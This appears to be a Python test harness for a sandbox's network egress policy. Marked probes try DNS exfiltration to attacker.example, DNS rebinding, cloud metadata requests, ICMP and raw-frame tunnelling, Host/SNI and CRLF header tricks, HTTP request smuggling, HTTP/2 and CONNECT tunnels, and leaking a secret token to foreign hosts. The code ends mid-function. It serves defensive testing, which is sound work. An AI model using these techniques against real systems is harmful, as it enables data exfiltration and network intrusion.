# The hostile guest: every function marked @attack tries to get bytes somewhere the sandbox's
# policy forbids, from inside a real sandbox. Python 3 stdlib only; run as `python3 -` with the
# configuration in $HOSTILE_CONFIG (ports of the host's loopback recorders, a per-run nonce).
#
# Each attack embeds its own marker (hxm-<nonce>-<attack name>) in everything it sends; the host
# side then searches every upstream's recorded bytes for it. Controls (hxc-…) must arrive: they
# prove the recorders and the paths work, so "0 leaks" cannot come from a dead harness.
# One JSON line per case on stdout: {"attack"|"control": name, "marker": ..., "observed": ...}.
# Every socket operation is bounded (timeouts), so the whole run stays within a few minutes under TCG.

import base64
import json
import os
import random
import socket
import ssl
import struct
import sys
import time

CFG = json.loads(os.environ["HOSTILE_CONFIG"])
NONCE = CFG["nonce"]
PORT = CFG["ports"]
SECRET = os.environ.get("SECRET_KEY", "")
PLAIN = os.environ.get("PLAIN_KEY", "")
T = 4.0

ATTACKS = []
CONTROLS = []


def attack(fn):
    ATTACKS.append(fn)
    return fn


def control(fn):
    CONTROLS.append(fn)
    return fn


def mark(name):
    return "hxm-%s-%s" % (NONCE, name.replace("_", "-"))


def ctl(name):
    return "hxc-%s-%s" % (NONCE, name.replace("_", "-"))


_addr = {}


def addr(name):
    if name not in _addr:
        try:
            _addr[name] = socket.gethostbyname(name)
        except OSError as e:
            _addr[name] = None
    return _addr[name]


def gateway():
    with open("/etc/resolv.conf") as f:
        for line in f:
            if line.startswith("nameserver"):
                return line.split()[1]
    return "10.77.0.1"


GW = gateway()


# ---------------------------------------------------------------------------------------------
# Plumbing


def summary(data):
    if not data:
        return "<nothing>"
    return data.split(b"\r\n", 1)[0][:100].decode("latin1")


def recv_reply(s, first=T, idle=0.6, limit=1 << 20):
    """Reads until the peer closes, or `idle` seconds of quiet after the first bytes."""
    out = b""
    how = "idle"
    s.settimeout(first)
    try:
        while len(out) < limit:
            chunk = s.recv(65536)
            if not chunk:
                how = "closed"
                break
            out += chunk
            s.settimeout(idle)
    except socket.timeout:
        how = "timeout" if not out else "idle"
    except (ssl.SSLError, OSError) as e:
        how = "error %s" % type(e).__name__
    return out, how


def connect(host, port, timeout=T):
    ip = host if host[0].isdigit() else addr(host)
    if ip is None:
        raise OSError("no address for %s" % host)
    return socket.create_connection((ip, port), timeout=timeout)


def tls_wrap(sock, sni, alpn=None):
    ctx = ssl.create_default_context()
    # The attacks want to reach the proxy's HTTP layer, not to test certificate validation.
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    if alpn:
        ctx.set_alpn_protocols(alpn)
    return ctx.wrap_socket(sock, server_hostname=sni)


def exchange(host, port, payload, delay=0.0, sni=False, alpn=None, first=T):
    """One connection: optional delay, optional TLS (sni=None: no SNI), send, read the answer."""
    s = connect(host, port)
    try:
        if delay:
            time.sleep(delay)
        if sni is not False:
            s = tls_wrap(s, sni, alpn)
        sent = ""
        if payload:
            try:
                s.sendall(payload)
            except OSError as e:
                # The proxy may answer and close before a large request is fully sent.
                sent = " (send: %s)" % type(e).__name__
        data, how = recv_reply(s, first=first)
        return "%s [%s]%s" % (summary(data), how, sent)
    finally:
        s.close()


def req(method, target, host, headers=(), body=b"", version="HTTP/1.1"):
    lines = ["%s %s %s" % (method, target, version)]
    if host is not None:
        lines.append("Host: " + host)
    lines += ["%s: %s" % h for h in headers]
    if body:
        lines.append("Content-Length: %d" % len(body))
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin1") + body


def hp(name, port_key):
    return "%s:%d" % (name, PORT[port_key])


def many(*results):
    return " | ".join(str(r) for r in results)


def safely(fn, *args, **kwargs):
    try:
        return fn(*args, **kwargs)
    except Exception as e:
        return "%s: %s" % (type(e).__name__, e)


# ---------------------------------------------------------------------------------------------
# HTTP/2 (prior knowledge or ALPN h2), hand-made: literal HPACK fields, no Huffman.

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def h2_int(value, bits, first=0):
    top = (1 << bits) - 1
    if value < top:
        return bytes([first | value])
    out = [first | top]
    value -= top
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack(headers):
    out = b""
    for k, v in headers:
        k, v = k.encode("latin1"), v.encode("latin1")
        out += b"\x00" + h2_int(len(k), 7) + k + h2_int(len(v), 7) + v
    return out


def frame(ftype, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def h2_headers(stream, headers, end_stream=True):
    return frame(1, 0x4 | (0x1 if end_stream else 0), stream, hpack(headers))


def h2_session(s, frames, wait=T):
    """Sends the preface, SETTINGS and `frames`; returns a description of what came back."""
    s.sendall(PREFACE + frame(4, 0, 0, b"") + b"".join(frames))
    buf, seen, end = b"", [], time.time() + wait
    s.settimeout(0.5)
    while time.time() < end and len(seen) < 40:
        try:
            chunk = s.recv(65536)
        except socket.timeout:
            if seen:
                break
            continue
        except (ssl.SSLError, OSError) as e:
            seen.append("error %s" % type(e).__name__)
            break
        if not chunk:
            seen.append("closed")
            break
        buf += chunk
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            ftype, flags, stream = buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
            payload, buf = buf[9 : 9 + length], buf[9 + length :]
            if ftype == 4 and not flags & 1:
                s.sendall(frame(4, 1, 0, b""))
            elif ftype == 0:
                seen.append("DATA(%d):%s" % (stream, payload[:80].decode("latin1").strip()))
            elif ftype == 1:
                seen.append("HEADERS(%d)" % stream)
            elif ftype == 3:
                seen.append("RST(%d,%d)" % (stream, int.from_bytes(payload[:4], "big")))
            elif ftype == 7:
                seen.append("GOAWAY(%d:%s)" % (int.from_bytes(payload[4:8], "big"), payload[8:80].decode("latin1")))
    return " ".join(seen) or "<nothing>"


def h2_tls(host, port, sni, frames):
    s = tls_wrap(connect(host, port), sni, ["h2"])
    try:
        return "alpn=%s %s" % (s.selected_alpn_protocol(), h2_session(s, frames))
    finally:
        s.close()


def h2c(host, port, frames):
    s = connect(host, port)
    try:
        return h2_session(s, frames)
    finally:
        s.close()


def h2_get(authority, path, extra=()):
    return [(":method", "GET"), (":scheme", "https"), (":authority", authority), (":path", path)] + list(extra)


# ---------------------------------------------------------------------------------------------
# DNS, packets


def dns_query(name, qtype=1, qid=None, questions=None, additional=b"", arcount=0):
    qs = questions or [(name, qtype)]
    body = b""
    for n, t in qs:
        body += b"".join(bytes([len(l)]) + l.encode("latin1") for l in n.split(".")) + b"\x00" + struct.pack(">HH", t, 1)
    header = struct.pack(">HHHHHH", qid if qid is not None else random.randint(0, 65535), 0x0100, len(qs), 0, 0, arcount)
    return header + body + additional


def dns_describe(reply):
    if not reply or len(reply) < 12:
        return "<no reply>"
    rcode = reply[3] & 0xF
    ancount = struct.unpack(">H", reply[6:8])[0]
    return "rcode=%d an=%d" % (rcode, ancount)


def dns_udp(packet, server=None, port=53, timeout=3.0):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(timeout)
    try:
        s.sendto(packet, (server or GW, port))
        return dns_describe(s.recv(4096))
    except socket.timeout:
        return "<no reply>"
    finally:
        s.close()


def dns_tcp(packet, server=None, timeout=3.0):
    s = socket.create_connection((server or GW, 53), timeout=timeout)
    try:
        s.sendall(struct.pack(">H", len(packet)) + packet)
        data, _ = recv_reply(s, first=timeout)
        return dns_describe(data[2:])
    finally:
        s.close()


def checksum(data):
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def icmp_echo(dst, payload, wait=2.0):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.settimeout(wait)
    try:
        ident = random.randint(0, 65535)
        pkt = struct.pack(">BBHHH", 8, 0, 0, ident, 1) + payload
        pkt = pkt[:2] + struct.pack(">H", checksum(pkt)) + pkt[4:]
        s.sendto(pkt, (dst, 0))
        try:
            data, src = s.recvfrom(4096)
            return "%s: reply from %s" % (dst, src[0])
        except socket.timeout:
            return "%s: no reply" % dst
    finally:
        s.close()


def mac_of(ip):
    # A TCP connection to the gateway (DNS over TCP) fills the neighbour table.
    safely(dns_tcp, dns_query("allowed.test"), ip, 2.0)
    with open("/proc/net/arp") as f:
        for line in f.readlines()[1:]:
            parts = line.split()
            if parts[0] == ip:
                return bytes.fromhex(parts[3].replace(":", ""))
    return b"\xff" * 6


def send_frame(ethertype, packet):
    with open("/sys/class/net/eth0/address") as f:
        own = bytes.fromhex(f.read().strip().replace(":", ""))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    try:
        s.bind(("eth0", 0))
        return s.send(mac_of(GW) + own + struct.pack(">H", ethertype) + packet)
    finally:
        s.close()


def ipv4_udp(src, dst, dport, payload):
    udp = struct.pack(">HHHH", 40000, dport, 8 + len(payload), 0) + payload
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.randint(0, 65535), 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
    return ip + udp


def ipv6_udp(src, dst, dport, payload):
    s6, d6 = socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst)
    length = 8 + len(payload)
    udp = struct.pack(">HHHH", 40000, dport, length, 0) + payload
    pseudo = s6 + d6 + struct.pack(">IxxxB", length, 17)
    udp = udp[:6] + struct.pack(">H", checksum(pseudo + udp) or 0xFFFF) + udp[8:]
    return struct.pack(">IHBB", 6 << 28, length, 17, 64) + s6 + d6 + udp


# ---------------------------------------------------------------------------------------------
# Controls: these must work (and their markers must arrive), or the harness proves nothing.


@control
def control_https_allowed(c):
    return exchange("allowed.test", PORT["webs"], req("GET", "/" + c, hp("allowed.test", "webs")), sni="allowed.test")


@control
def control_http_allowed(c):
    return exchange("allowed.test", PORT["web"], req("GET", "/" + c, hp("allowed.test", "web")))


@control
def control_secret_over_tls(c):
    basic = base64.b64encode(("user:" + SECRET).encode()).decode()
    return many(
        exchange("secret.test", PORT["webs"], req("GET", "/%s?key=%s" % (c, SECRET), hp("secret.test", "webs"),
                 [("Authorization", "Bearer " + SECRET), ("X-Control", c)]), sni="secret.test"),
        exchange("secret.test", PORT["webs"], req("GET", "/%s-basic" % c, hp("secret.test", "webs"),
                 [("Authorization", "Basic " + basic)]), sni="secret.test"))


@control
def control_plain_secret_over_http(c):
    if not PLAIN:
        return "not configured"
    return exchange("plain.test", PORT["web"], req("GET", "/" + c, hp("plain.test", "web"), [("Authorization", "Bearer " + PLAIN)]))


@control
def control_raw_rule_server_speaks_first(c):
    s = connect("raw.test", PORT["raw"])
    try:
        banner, how = recv_reply(s, first=6.0, idle=0.3)
        s.sendall(("HELO %s\r\n" % c).encode())
        ack, _ = recv_reply(s, first=4.0, idle=0.3)
        return "banner=%r [%s] ack=%r" % (summary(banner), how, summary(ack))
    finally:
        s.close()


@control
def control_dns_upstream(c):
    return "rebind.test -> %s" % addr("rebind.test")


# ---------------------------------------------------------------------------------------------
# DNS: tunnelling, rebinding, odd packets


@attack
def dns_exfil_forbidden_name(m):
    return many(dns_udp(dns_query(m + ".forbidden.test")), safely(socket.gethostbyname, m + ".forbidden.test"))


@attack
def dns_exfil_foreign_domain(m):
    return dns_udp(dns_query(m + ".attacker.example"))


@attack
def dns_exfil_subdomain_of_allowed(m):
    return many(dns_udp(dns_query(m + ".allowed.test")), dns_udp(dns_query(m + ".rebind.test")))


@attack
def dns_exfil_other_record_types(m):
    # TXT, MX, ANY, NULL, SRV, PTR: never forwarded, even for an allowed name's subdomain.
    return many(*[dns_udp(dns_query(m + ".rebind.test", t)) for t in (16, 15, 255, 10, 33, 12)])


@attack
def dns_exfil_aaaa(m):
    return many(dns_udp(dns_query(m + ".forbidden.test", 28)), dns_udp(dns_query(m + ".rebind.test", 28)))


@attack
def dns_exfil_over_tcp(m):
    return many(dns_tcp(dns_query(m + ".attacker.example")), dns_tcp(dns_query(m + ".rebind.test", 16)))


@attack
def dns_exfil_edns_option(m):
    # An allowed name (forwarded upstream) with the marker in an EDNS option and a second OPT-like record.
    option = struct.pack(">HH", 65001, len(m)) + m.encode()
    opt = b"\x00" + struct.pack(">HHIH", 41, 1232, 0, len(option)) + option
    return dns_udp(dns_query("rebind.test", additional=opt, arcount=1))


@attack
def dns_exfil_two_questions(m):
    return dns_udp(dns_query(None, questions=[("rebind.test", 1), (m + ".attacker.example", 1)]))


@attack
def dns_exfil_other_resolvers(m):
    # Port 53 anywhere is our resolver; other ports are dropped.
    return many(dns_udp(dns_query(m + ".attacker.example"), "8.8.8.8"),
                dns_udp(dns_query(m + ".attacker.example"), addr("allowed.test")),
                dns_udp(dns_query(m + ".attacker.example"), GW, 5353, 1.5),
                safely(dns_tcp, dns_query(m + ".attacker.example"), "1.1.1.1"))


@attack
def dns_exfil_long_labels(m):
    labels = [(m + "-" + "a" * 63)[:63] for _ in range(3)]
    return dns_udp(dns_query(".".join(labels) + ".forbidden.test"))


@attack
def dns_malformed_packets(m):
    mb = m.encode()
    loop = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c" + mb  # compression pointer to itself
    response = struct.pack(">HHHHHH", 8, 0x8180, 1, 0, 0, 0) + dns_query(m + ".rebind.test")[12:]
    return many(dns_udp(loop), dns_udp(response, timeout=1.5), dns_udp(mb, timeout=1.5),
                dns_udp(dns_query("rebind.test"), timeout=3))


@attack
def dns_rebinding_to_loopback(m):
    # rebind.test is allowed; its upstream answer is 127.0.0.1 (the host's loopback, where the
    # recorders listen). The guest may use that answer, or any address, with that Host: no path
    # may lead the proxy to the host's loopback for it.
    target = addr("rebind.test")
    get = lambda: req("GET", "/" + m, hp("rebind.test", "tcp"), [("X-Attack", m)])
    return many("answer=%s" % target,
                safely(exchange, target or "127.0.0.1", PORT["tcp"], get()),
                safely(exchange, addr("allowed.test"), PORT["tcp"], get()),
                safely(exchange, GW, PORT["tcp"], get()),
                safely(exchange, addr("allowed.test"), PORT["tls"], get(), sni="rebind.test"))


# ---------------------------------------------------------------------------------------------
# Direct addresses, metadata


@attack
def direct_ip_stand_in(m):
    ip = addr("allowed.test")
    return many(exchange(ip, PORT["tcp"], req("GET", "/" + m, "%s:%d" % (ip, PORT["tcp"]))),
                exchange(ip, PORT["tls"], req("GET", "/" + m, "%s:%d" % (ip, PORT["tls"])), sni=None))


@attack
def direct_ip_loopback_host_header(m):
    return many(exchange("allowed.test", PORT["tcp"], req("GET", "/" + m, "127.0.0.1:%d" % PORT["tcp"])),
                exchange("allowed.test", PORT["tcp"], req("GET", "/" + m, "localhost:%d" % PORT["tcp"])),
                exchange("allowed.test", PORT["tcp"], req("GET", "/" + m, "[::1]:%d" % PORT["tcp"])))


@attack
def metadata_service(m):
    return many(safely(exchange, "169.254.169.254", 80, req("GET", "/latest/meta-data/" + m, "169.254.169.254")),
                safely(exchange, "169.254.169.254", 80, req("GET", "/computeMetadata/v1/" + m, "metadata.google.internal",
                                                            [("Metadata-Flavor", "Google")])),
                safely(exchange, "169.254.169.254", 443, req("GET", "/" + m, "169.254.169.254"), sni=None))


@attack
def gateway_address_with_allowed_host(m):
    return many(safely(exchange, GW, PORT["tcp"], req("GET", "/" + m, hp("allowed.test", "tcp"))),
                safely(exchange, GW, PORT["tls"], req("GET", "/" + m, hp("allowed.test", "tls")), sni="allowed.test"))


@attack
def foreign_ip_with_allowed_host(m):
    return many(safely(exchange, "192.0.2.10", PORT["tcp"], req("GET", "/" + m, hp("allowed.test", "tcp"))),
                safely(exchange, "198.18.200.200", PORT["tcp"], req("GET", "/" + m, hp("allowed.test", "tcp"))))


# ---------------------------------------------------------------------------------------------
# ICMP, UDP, IPv6, hand-made frames


@attack
def icmp_echo_with_payload(m):
    return many(*[safely(icmp_echo, dst, m.encode() * 4) for dst in (GW, addr("allowed.test"), "8.8.8.8")])


@attack
def udp_to_stand_in(m):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        for port in (PORT["udp"], 443, 123):
            s.sendto(m.encode(), (addr("allowed.test"), port))
        s.settimeout(1.5)
        return "reply: %r" % s.recv(100)
    except socket.timeout:
        return "no reply"
    finally:
        s.close()


@attack
def udp_to_gateway_and_beyond(m):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        for target in ((GW, PORT["udp"]), ("8.8.8.8", 443), ("10.77.0.3", PORT["udp"]), ("255.255.255.255", PORT["udp"])):
            safely(s.setsockopt, socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            safely(s.sendto, m.encode(), target)
        s.settimeout(1.5)
        return "reply: %r" % s.recv(100)
    except socket.timeout:
        return "no reply"
    finally:
        s.close()


@attack
def ipv6_sockets(m):
    out = []
    for dst in ("::1", "fd00::1", "2001:db8::1", "fe80::1%eth0", "64:ff9b::c612:1", "::ffff:8.8.8.8"):
        def send(dst=dst):
            s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
            try:
                s.sendto(m.encode(), (dst, PORT["udp6"]))
                return "%s sent" % dst
            finally:
                s.close()
        out.append(safely(send))
    out.append(safely(lambda: socket.create_connection(("64:ff9b::c612:1", PORT["tcp6"]), timeout=2).send(m.encode())))
    return many(*out)


@attack
def ipv4_mapped_ipv6_http(m):
    def go():
        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        s.settimeout(T)
        try:
            s.connect(("::ffff:" + addr("allowed.test"), PORT["tcp"]))
            s.sendall(req("GET", "/" + m, hp("forbidden.test", "tcp")))
            return summary(recv_reply(s)[0])
        finally:
            s.close()
    return safely(go)


@attack
def ipv6_raw_frame(m):
    return many(safely(send_frame, 0x86DD, ipv6_udp("fe80::2", "::1", PORT["udp6"], m.encode())),
                safely(send_frame, 0x86DD, ipv6_udp("fe80::2", "ff02::1", PORT["udp6"], m.encode())))


@attack
def ipv4_raw_frame_to_loopback(m):
    own = addr("allowed.test")
    return many(safely(send_frame, 0x0800, ipv4_udp("10.77.0.2", "127.0.0.1", PORT["udp"], m.encode())),
                safely(send_frame, 0x0800, ipv4_udp("127.0.0.1", "127.0.0.1", PORT["udp"], m.encode())),
                safely(send_frame, 0x0800, ipv4_udp("10.77.0.2", own, PORT["udp"], m.encode())))


# ---------------------------------------------------------------------------------------------
# Host, SNI


@attack
def http_forbidden_host(m):
    return exchange("forbidden.test", PORT["tcp"], req("GET", "/" + m, hp("forbidden.test", "tcp"), [("X-Attack", m)]))


@attack
def https_forbidden_host(m):
    return exchange("forbidden.test", PORT["tls"], req("GET", "/" + m, hp("forbidden.test", "tls")), sni="forbidden.test")


@attack
def sni_allowed_host_forbidden(m):
    return exchange("allowed.test", PORT["tls"], req("GET", "/" + m, hp("forbidden.test", "tls")), sni="allowed.test")


@attack
def sni_forbidden_host_allowed(m):
    return exchange("allowed.test", PORT["tls"], req("GET", "/" + m, hp("allowed.test", "tls")), sni="forbidden.test")


@attack
def tls_without_sni(m):
    return exchange("allowed.test", PORT["tls"], req("GET", "/" + m, hp("allowed.test", "tls")), sni=None)


@attack
def duplicate_host(m):
    dup = lambda first, second: ("GET /%s HTTP/1.1\r\nHost: %s\r\nHost: %s\r\n\r\n" % (m, first, second)).encode()
    return many(exchange("allowed.test", PORT["tcp"], dup(hp("allowed.test", "tcp"), hp("forbidden.test", "tcp"))),
                exchange("allowed.test", PORT["tcp"], dup(hp("forbidden.test", "tcp"), hp("allowed.test", "tcp"))),
                exchange("allowed.test", PORT["tls"], dup(hp("allowed.test", "tls"), hp("forbidden.test", "tls")), sni="allowed.test"))


@attack
def crlf_header_injection(m):
    a, f = hp("allowed.test", "tcp"), hp("forbidden.test", "tcp")
    return many(
        exchange("allowed.test", PORT["tcp"], ("GET /%s HTTP/1.1\r\nHost: %s\rHost: %s\r\n\r\n" % (m, a, f)).encode()),
        exchange("allowed.test", PORT["tcp"], ("GET /%s HTTP/1.1\r\nX-A: 1\nHost: %s\r\nHost: %s\r\n\r\n" % (m, f, a)).encode()),
        exchange("allowed.test", PORT["tcp"], ("GET /%s HTTP/1.1\r\nHost: %s\r\n\tforbidden.test\r\n\r\n" % (m, a)).encode()),
        exchange("allowed.test", PORT["tcp"], ("GET /%s HTTP/1.1\r\nHost : %s\r\n\r\n" % (m, f)).encode()))


@attack
def host_header_confusion(m):
    out = []
    for host in ("allowed.test@forbidden.test", "forbidden.test/allowed.test", "allowed.test forbidden.test",
                 "forbidden.test\x00allowed.test", "FORBIDDEN.TEST", "forbidden.test.", "forbidden.test:%d:1" % PORT["tcp"],
                 "[forbidden.test]"):
        out.append(safely(exchange, "allowed.test", PORT["tcp"], req("GET", "/" + m, host)))
    return many(*out)


@attack
def missing_host(m):
    return many(exchange("allowed.test", PORT["tcp"], req("GET", "/" + m, None, version="HTTP/1.0")),
                exchange("allowed.test", PORT["tcp"], req("GET", "/" + m, "")))


# ---------------------------------------------------------------------------------------------
# Request lines the sniffer (or Kestrel) must not take for something else


@attack
def leading_crlf(m):
    return exchange("allowed.test", PORT["tcp"], b"\r\n" + req("GET", "/" + m, hp("forbidden.test", "tcp")))


@attack
def leading_space(m):
    return exchange("allowed.test", PORT["tcp"], b" " + req("GET", "/" + m, hp("forbidden.test", "tcp")))


@attack
def tab_separators(m):
    return exchange("allowed.test", PORT["tcp"], ("GET\t/%s\tHTTP/1.1\r\nHost: %s\r\n\r\n" % (m, hp("forbidden.test", "tcp"))).encode())


@attack
def lowercase_method(m):
    return exchange("allowed.test", PORT["tcp"], req("get", "/" + m, hp("forbidden.test", "tcp")))


@attack
def long_method_token(m):
    return exchange("allowed.test", PORT["tcp"], req("VERYLONGMETHODNAME", "/" + m, hp("forbidden.test", "tcp")))


@attack
def http09_request_line(m):
    return exchange("allowed.test", PORT["tcp"], ("GET /%s\r\n\r\n" % m).encode())


@attack
def lf_only_line_endings(m):
    return exchange("allowed.test", PORT["tcp"], ("GET /%s HTTP/1.1\nHost: %s\n\n" % (m, hp("forbidden.test", "tcp"))).encode())


@attack
def unknown_http_version(m):
    return many(exchange("allowed.test", PORT["tcp"], req("GET", "/" + m, hp("forbidden.test", "tcp"), version="HTTP/3.0")),
                exchange("allowed.test", PORT["tcp"], req("GET", "/" + m, hp("forbidden.test", "tcp"), version="HTTP/1.1 extra")))


@attack
def absolute_form_foreign(m):
    return many(
        exchange("allowed.test", PORT["tcp"], req("GET", "http://%s/%s" % (hp("forbidden.test", "tcp"), m), hp("allowed.test", "tcp"))),
        exchange("allowed.test", PORT["tcp"], req("GET", "https://%s/%s" % (hp("forbidden.test", "tls"), m), hp("allowed.test", "tcp"))),
        exchange("allowed.test", PORT["tls"], req("GET", "https://%s/%s" % (hp("forbidden.test", "tls"), m), hp("allowed.test", "tls")),
                 sni="allowed.test"))


@attack
def connect_method(m):
    t = hp("forbidden.test", "tcp")
    return exchange("allowed.test", PORT["tcp"], req("CONNECT", t, t) + ("SSH-2.0-%s\r\n" % m).encode())


@attack
def connect_tunnel_to_allowed(m):
    t = hp("allowed.test", "tcp")
    s = connect("allowed.test", PORT["tcp"])
    try:
        s.sendall(req("CONNECT", t, t))
        first, _ = recv_reply(s)
        s.sendall(("SSH-2.0-%s\r\n" % m).encode())
        second, how = recv_reply(s, first=2.0)
        return "%s then %s [%s]" % (summary(first), summary(second), how)
    finally:
        s.close()


@attack
def connect_over_tls(m):
    t = hp("allowed.test", "tcp")
    return exchange("allowed.test", PORT["tls"], req("CONNECT", t, t) + ("SSH-2.0-%s\r\n" % m).encode(), sni="allowed.test")


# ---------------------------------------------------------------------------------------------
# Smuggling (HTTP/1.1 framing, pipelining, HTTP/2)


@attack
def smuggle_cl_te(m):
    smuggled = req("GET", "/" + m, hp("forbidden.test", "tcp"))
    body = b"0\r\n\r\n" + smuggled
    head = ("POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n"
            % (hp("allowed.test", "tcp"), len(body))).encode()
    return exchange("allowed.test", PORT["tcp"], head + body)


@attack
def smuggle_duplicate_content_length(m):
    smuggled = req("GET", "/" + m, hp("forbidden.test", "tcp"))
    head = ("POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: 0\r\nContent-Length: %d\r\n\r\n"
            % (hp("allowed.test", "tcp"), len(smuggled))).encode()
    return exchange("allowed.test", PORT["tcp"], head + smuggled)


@attack
def smuggle_obfuscated_te(m):
    smuggled = req("GET", "/" + m, hp("forbidden.test", "tcp"))
    out = []
    for te in ("Transfer-Encoding : chunked", "Transfer-Encoding: xchunked", "Transfer-Encoding:\x0bchunked"):
        body = b"0\r\n\r\n" + smuggled
        head = ("POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n%s\r\n\r\n" % (hp("allowed.test", "tcp"), len(body), te)).encode()
        out.append(safely(exchange, "allowed.test", PORT["tcp"], head + body))
    return many(*out)


@attack
def smuggle_pipelined_foreign(m):
    first = req("GET", "/", hp("allowed.test", "tcp"))
    return many(exchange("allowed.test", PORT["tcp"], first + req("GET", "/" + m, hp("forbidden.test", "tcp"))),
                exchange("allowed.test", PORT["tls"], req("GET", "/", hp("allowed.test", "tls")) + req("GET", "/" + m, hp("forbidden.test", "tls")),
                         sni="allowed.test"))


@attack
def h2c_prior_knowledge_forbidden(m):
    return h2c("allowed.test", PORT["tcp"], [h2_headers(1, h2_get(hp("forbidden.test", "tcp"), "/" + m, [("x-attack", m)]))])


@attack
def h2_authority_differs_from_sni(m):
    return h2_tls("allowed.test", PORT["tls"], "allowed.test", [h2_headers(1, h2_get(hp("forbidden.test", "tls"), "/" + m))])


@attack
def h2_host_header_conflicts_with_authority(m):
    # The marker is only in the conflicting host header: forwarding to :authority (allowed.test)
    # without it is fine, passing the foreign Host on is not.
    return h2_tls("allowed.test", PORT["tls"], "allowed.test",
                  [h2_headers(1, h2_get(hp("allowed.test", "tls"), "/", [("host", "%s.forbidden.test:%d" % (m, PORT["tls"]))]))])


@attack
def h2_second_stream_foreign(m):
    return h2_tls("allowed.test", PORT["tls"], "allowed.test",
                  [h2_headers(1, h2_get(hp("allowed.test", "tls"), "/")), h2_headers(3, h2_get(hp("forbidden.test", "tls"), "/" + m))])


@attack
def h2_plain_connect(m):
    return h2_tls("allowed.test", PORT["tls"], "allowed.test",
                  [h2_headers(1, [(":method", "CONNECT"), (":authority", hp("allowed.test", "tcp"))], end_stream=False),
                   frame(0, 0, 1, ("SSH-2.0-%s\r\n" % m).encode())])


# ---------------------------------------------------------------------------------------------
# WebSocket upgrades to foreign hosts


def ws_upgrade(path, host, extra=()):
    key = base64.b64encode(os.urandom(16)).decode()
    return req("GET", path, host, [("Upgrade", "websocket"), ("Connection", "Upgrade"), ("Sec-WebSocket-Key", key),
                                   ("Sec-WebSocket-Version", "13")] + list(extra))


@attack
def websocket_upgrade_forbidden_plain(m):
    return exchange("allowed.test", PORT["tcp"], ws_upgrade("/" + m, hp("forbidden.test", "tcp")))


@attack
def websocket_upgrade_sni_mismatch(m):
    return exchange("allowed.test", PORT["tls"], ws_upgrade("/" + m, hp("forbidden.test", "tls")), sni="allowed.test")


@attack
def websocket_h2_extended_connect_foreign(m):
    return h2_tls("allowed.test", PORT["tls"], "allowed.test", [h2_headers(1, [
        (":method", "CONNECT"), (":protocol", "websocket"), (":scheme", "https"), (":path", "/" + m),
        (":authority", hp("forbidden.test", "tls")), ("sec-websocket-version", "13")], end_stream=False)])


# ---------------------------------------------------------------------------------------------
# Secrets: placeholders in every position, cleartext, raw


def basic(user, padded=True):
    b = base64.b64encode((user + ":" + SECRET).encode()).decode()
    return b if padded else b.rstrip("=")


def to_allowed_tls(m, target, headers=()):
    return exchange("allowed.test", PORT["tls"], req("GET", target, hp("allowed.test", "tls"), [("X-Attack", m)] + list(headers)),
                    sni="allowed.test")


@attack
def placeholder_header_foreign(m):
    return many(to_allowed_tls(m, "/" + m, [("Authorization", "Bearer " + SECRET)]),
                to_allowed_tls(m, "/" + m, [("Cookie", "session=" + SECRET)]))


@attack
def placeholder_query_foreign(m):
    return to_allowed_tls(m, "/%s?key=%s" % (m, SECRET))


@attack
def placeholder_path_foreign(m):
    return to_allowed_tls(m, "/%s/%s" % (m, SECRET))


@attack
def placeholder_basic_padded_foreign(m):
    return many(to_allowed_tls(m, "/" + m, [("Authorization", "Basic " + basic("user"))]),
                to_allowed_tls(m, "/" + m, [("Authorization", "Basic " + basic("ab"))]))


@attack
def placeholder_basic_unpadded_foreign(m):
    return many(to_allowed_tls(m, "/" + m, [("Authorization", "Basic " + basic("user", False))]),
                to_allowed_tls(m, "/" + m, [("Authorization", "basic " + basic("ab", False))]))


@attack
def placeholder_header_name_foreign(m):
    return to_allowed_tls(m, "/" + m, [("X-" + SECRET, "1")])


@attack
def placeholder_percent_encoded_foreign(m):
    encoded = "".join("%%%02X" % ord(ch) if ch == "_" or i % 2 else ch for i, ch in enumerate(SECRET))
    return many(to_allowed_tls(m, "/%s?key=%s" % (m, encoded)), to_allowed_tls(m, "/%s/%s" % (m, encoded)))


@attack
def placeholder_h2_header_foreign(m):
    return h2_tls("allowed.test", PORT["tls"], "allowed.test",
                  [h2_headers(1, h2_get(hp("allowed.test", "tls"), "/" + m, [("authorization", "Bearer " + SECRET)]))])


@attack
def placeholder_sni_host_mismatch(m):
    headers = [("Authorization", "Bearer " + SECRET), ("X-Attack", m)]
    return many(exchange("secret.test", PORT["tls"], req("GET", "/" + m, hp("secret.test", "tls"), headers), sni="allowed.test"),
                exchange("secret.test", PORT["tls"], req("GET", "/" + m, hp("allowed.test", "tls"), headers), sni="secret.test"))


@attack
def placeholder_absolute_form_to_secret_host(m):
